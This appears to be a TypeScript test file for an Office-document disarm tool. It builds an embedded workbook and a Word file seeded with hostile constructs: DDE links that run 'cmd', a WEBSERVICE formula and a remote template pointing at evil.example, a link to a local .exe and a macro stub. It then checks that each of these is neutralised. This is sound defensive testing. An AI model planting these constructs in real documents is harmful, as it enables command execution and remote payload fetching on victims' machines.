import { expect, test } from 'vitest'
import { officePackage } from '../../disarm/office-package.fixture.ts'
import { scanPackage } from '../../disarm/package-scan.fixture.ts'
import { relationships } from '../../disarm/hostile-markup.fixture.ts'
import { paragraph } from '../../package/word-file.fixture.ts'
import type { WordFile } from '../../package/word-file.fixture.ts'
import { composeFiles } from '../composed-file.fixture.ts'

const OOXML = 'application/vnd.openxmlformats-officedocument.'
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
const S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
const inside = (entries: [id: string, kind: string, target: string][]): string =>
  relationships(entries).replaceAll(' TargetMode="External"', '')

/** Content types of the parts of an embedded file. */
function typed(parts: Record<string, string>, types: Record<string, string>): Record<string, string> {
  const overrides = Object.entries(types).map(
    ([name, type]) => `<Override PartName="/${name}" ContentType="${type}"/>`,
  )
  return {
    '[Content_Types].xml': `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${overrides.join('')}</Types>`,
    ...parts,
  }
}

const workbook = officePackage(
  typed(
    {
      '_rels/.rels': inside([['rId1', 'officeDocument', 'xl/workbook.xml']]),
      'xl/workbook.xml': `<workbook ${S} xmlns:r="${REL}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets><externalReferences><externalReference r:id="rId2"/></externalReferences><definedNames><definedName name="far">[1]a!A1</definedName></definedNames></workbook>`,
      'xl/_rels/workbook.xml.rels': inside([
        ['rId1', 'worksheet', 'worksheets/sheet1.xml'],
        ['rId2', 'externalLink', 'externalLinks/externalLink1.xml'],
        ['rId3', 'connections', 'connections.xml'],
      ]),
      'xl/worksheets/sheet1.xml': `<worksheet ${S}><sheetData><row r="1"><c r="A1"><f>[1]a!A1</f><v>41</v></c><c r="B1"><f>SUM(A1)</f><v>42</v></c><c r="C1"><f>_xlfn.WEBSERVICE("http://evil.example")</f><v>43</v></c></row></sheetData></worksheet>`,
      'xl/externalLinks/externalLink1.xml': `<externalLink ${S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`,
      'xl/connections.xml': `<connections ${S}><connection id="1" name="c" type="1" refreshedVersion="6" refreshOnLoad="1"><dbPr connection="DSN=x" command="select"/></connection></connections>`,
    },
    { 'xl/workbook.xml': `${OOXML}spreadsheetml.sheet.main+xml` },
  ),
)

const document = officePackage(
  typed(
    {
      '_rels/.rels': inside([['rId1', 'officeDocument', 'word/document.xml']]),
      'word/document.xml': `<w:document ${W} xmlns:r="${REL}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd x </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>inner result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:p><w:hyperlink r:id="rId1"><w:r><w:t>inner link</w:t></w:r></w:hyperlink></w:p></w:body></w:document>`,
      'word/_rels/document.xml.rels': relationships([['rId1', 'hyperlink', 'file:///C:/x.exe']]).replace(
        '</Relationships>',
        `<Relationship Id="rId2" Type="${REL}/settings" Target="settings.xml"/><Relationship Id="rId3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
      ),
      'word/settings.xml': `<w:settings ${W} xmlns:r="${REL}"><w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/></w:settings>`,
      'word/_rels/settings.xml.rels': relationships([
        ['rId1', 'attachedTemplate', 'http://evil.example/t.dotm'],
      ]),
      'word/vbaProject.bin': 'macros',
    },
    {
      'word/document.xml': `${OOXML}wordprocessingml.document.main+xml`,
      'word/settings.xml': `${OOXML}wordprocessingml.settings+xml`,
      'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject',
    },
  ),
)

const source: WordFile = {
  body: `${paragraph('text')}<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Excel.Sheet.12" r:id="rIdX"/></w:object></w:r></w:p><w:altChunk r:id="rIdD"/><w:p/>`,
  parts: [
    {
      name: 'word/embeddings/book.xlsx',
      data: workbook,
      kind: 'package',
      contentType: `${OOXML}spreadsheetml.sheet`,
      id: 'rIdX',
    },
    {
      name: 'word/inner.docx',
      data: document,
      kind: 'aFChunk',
      contentType: `${OOXML}wordprocessingml.document.main+xml`,
      id: 'rIdD',
    },
  ],
}

test('embedded Office files are made harmless inside, and what they show stays', async () => {
  await composeFiles({ a: source }, {}, async ({ path, partNames, report, document: composed }) => {
    expect(scanPackage(path)).toEqual([])
    expect(report.ledger.unexplained).toBe(0)
    expect(partNames).toEqual(expect.arrayContaining(['word/embeddings/book.xlsx', 'word/inner.docx']))
    const told = report.disarmed.pieces.map(({ kind, part }) => [kind, part.split(' › ')[1]])
    expect(told).toEqual(
      expect.arrayContaining([
        ['linked-object', 'xl/externalLinks/externalLink1.xml'],
        ['data-connection', 'xl/connections.xml'],
        ['linked-object', 'xl/worksheets/sheet1.xml'],
        ['field', 'word/document.xml'],
        ['link', 'word/document.xml'],
        ['macro', 'word/document.xml'],
        ['remote-template', 'word/settings.xml'],
      ]),
    )
    const inner = (await composed.partBytes('word/inner.docx')).length
    expect(inner).toBeGreaterThan(0)
  })
})

test('an embedded file with nothing active in it keeps its bytes', async () => {
  const calm = officePackage({ 'xl/worksheets/sheet1.xml': `<worksheet ${S}><f>SUM(A1:A2)</f></worksheet>` })
  const [book] = source.parts ?? []
  const file = {
    ...source,
    body: source.body.replace('<w:altChunk r:id="rIdD"/>', ''),
    parts: [] as WordFile['parts'],
  }
  if (book) file.parts = [{ ...book, data: calm }]
  await composeFiles({ a: file }, {}, async ({ document: composed, report }) => {
    expect((await composed.partBytes('word/embeddings/book.xlsx')).equals(calm)).toBe(true)
    expect(report.disarmed.total).toBe(0)
  })
})
